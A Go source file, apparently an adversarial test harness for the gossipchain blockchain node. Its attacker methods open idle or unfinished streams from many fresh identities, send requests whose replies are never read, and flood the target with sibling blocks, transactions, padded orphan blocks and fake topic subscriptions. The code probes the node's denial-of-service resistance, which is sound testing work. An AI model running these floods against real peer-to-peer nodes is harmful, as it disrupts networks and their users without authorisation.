package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/gossipchain/gossipchain/chain"
)

// fromIdentities connects identities fresh identities to the target and
// calls open each times for each of them. It returns their peer IDs and how
// many calls of open succeeded and failed.
func (a *attacker) fromIdentities(ctx context.Context, identities, each int, open func(*identity) error) (peers []string, ok, failed int, err error) {
	for range identities {
		id, err := a.newIdentity()
		if err != nil {
			return nil, 0, 0, err
		}
		if err := id.connect(ctx, a.target); err != nil {
			return nil, 0, 0, fmt.Errorf("connect: %w", err)
		}
		peers = append(peers, id.host.ID().String())
		for range each {
			if err := open(id); err != nil {
				failed++
				continue
			}
			ok++
		}
	}
	return peers, ok, failed, nil
}

// streams opens each streams that never negotiate a protocol from each of
// identities fresh identities, and keeps them open until the identities are
// closed (or quit). It reports how many the target let open.
func (a *attacker) streams(ctx context.Context, identities, each int) (map[string]any, error) {
	peers, opened, failed, err := a.fromIdentities(ctx, identities, each, func(id *identity) error {
		// A bare network stream: no protocol is ever proposed on it.
		_, err := id.host.Network().NewStream(ctx, a.target.ID)
		return err
	})
	if err != nil {
		return nil, err
	}
	return map[string]any{"peers": peers, "opened": opened, "failed": failed}, nil
}

// idleRequests opens, from each of identities fresh identities, each
// chain-exchange streams that start a request and never finish it.
func (a *attacker) idleRequests(ctx context.Context, identities, each int) (map[string]any, error) {
	peers, opened, failed, err := a.fromIdentities(ctx, identities, each, func(id *identity) error {
		s, err := id.host.NewStream(ctx, a.target.ID, blocksProtocol)
		if err == nil {
			_, err = s.Write([]byte{100}) // a 100-byte frame follows... never
		}
		return err
	})
	if err != nil {
		return nil, err
	}
	return map[string]any{"peers": peers, "opened": opened, "failed": failed}, nil
}

// unread sends, from each of identities fresh identities, each requests
// for the whole chain and never reads the replies.
func (a *attacker) unread(ctx context.Context, identities, each int) (map[string]any, error) {
	req := frame(request([]chain.Hash{a.params.Genesis().Hash}, maxBlocksAsked))
	peers, sent, _, err := a.fromIdentities(ctx, identities, each, func(id *identity) error {
		s, err := id.host.NewStream(ctx, a.target.ID, blocksProtocol)
		if err == nil {
			_, err = s.Write(req)
		}
		return err
	})
	if err != nil {
		return nil, err
	}
	return map[string]any{"peers": peers, "sent": sent}, nil
}

// siblings publishes n valid blocks (mined at the target's difficulty) that
// all compete with the target's head, from one fresh identity.
func (a *attacker) siblings(ctx context.Context, n int) (map[string]any, error) {
	blocks, err := a.fetchChain(ctx)
	if err != nil {
		return nil, fmt.Errorf("fetch the target's chain: %w", err)
	}
	if len(blocks) < 2 {
		return nil, fmt.Errorf("the target's chain has no block above the genesis")
	}
	parent, ancestors := blocks[len(blocks)-2], blocks[:len(blocks)-1]
	id, topic, err := a.joined(ctx)
	if err != nil {
		return nil, err
	}
	var hashes []string
	for range n {
		msg := a.blockMsg(a.child(parent, ancestors, []chain.Transaction{userTx()}, mined))
		if err := id.publish(ctx, topic, msg.data); err != nil {
			return nil, fmt.Errorf("publish: %w", err)
		}
		hashes = append(hashes, msg.hash.String())
	}
	return map[string]any{"peer": id.host.ID().String(), "hashes": hashes}, nil
}

// txflood publishes n valid transactions as fast as the router takes them,
// from one fresh identity.
func (a *attacker) txflood(ctx context.Context, n int) (map[string]any, error) {
	id, topic, err := a.joinedTopic(ctx, "txs")
	if err != nil {
		return nil, err
	}
	start := time.Now()
	for i := range n {
		if err := id.publish(ctx, topic, txMsg(userTx()).data); err != nil {
			return nil, fmt.Errorf("publish %d: %w", i, err)
		}
	}
	return map[string]any{"peer": id.host.ID().String(), "sent": n, "seconds": time.Since(start).Seconds()}, nil
}

// orphans publishes n valid blocks of txs transactions each (long addresses,
// so about 280 bytes a transaction) whose parents nobody has, from one fresh
// identity.
func (a *attacker) orphans(ctx context.Context, n, txs int) (map[string]any, error) {
	id, topic, err := a.joined(ctx)
	if err != nil {
		return nil, err
	}
	pad := strings.Repeat("o", chain.MaxAddressLen-16)
	bytes := 0
	for i := range n {
		parent := &chain.Block{Index: 1_000_000, Hash: randomHash()}
		list := make([]chain.Transaction, 0, txs)
		for j := range txs {
			tx, err := chain.NewTransaction(fmt.Sprintf("%s%08x%07x", pad, i, j), pad+"-recipient-pad", uint64(j+1))
			if err != nil {
				return nil, err
			}
			list = append(list, tx)
		}
		msg := a.blockMsg(a.child(parent, nil, list, mined))
		if err := id.publish(ctx, topic, msg.data); err != nil {
			return nil, fmt.Errorf("publish %d: %w", i, err)
		}
		bytes += len(msg.data)
	}
	return map[string]any{"peer": id.host.ID().String(), "sent": n, "bytes": bytes}, nil
}

// subs makes one fresh identity, subscribed to the target's block topic,
// announce n made-up topics of the target's network, one subscription per
// RPC, then publish a malformed block as a marker.
func (a *attacker) subs(ctx context.Context, n int) (map[string]any, error) {
	id, topic, err := a.joined(ctx)
	if err != nil {
		return nil, err
	}
	start := time.Now()
	for i := range n {
		t, err := id.ps.Join(fmt.Sprintf("/gossipchain/%s/made-up-%d/1", a.params.Name, i))
		if err != nil {
			return nil, err
		}
		if _, err := t.Relay(); err != nil {
			return nil, err
		}
	}
	// A marker after the announcements, on the same stream: once the
	// target counts it as a malformed block, it has read them all.
	if err := id.publish(ctx, topic, randomBytes(64)); err != nil {
		return nil, fmt.Errorf("publish the marker: %w", err)
	}
	return map[string]any{"peer": id.host.ID().String(), "topic": topic, "sent": n, "seconds": time.Since(start).Seconds()}, nil
}
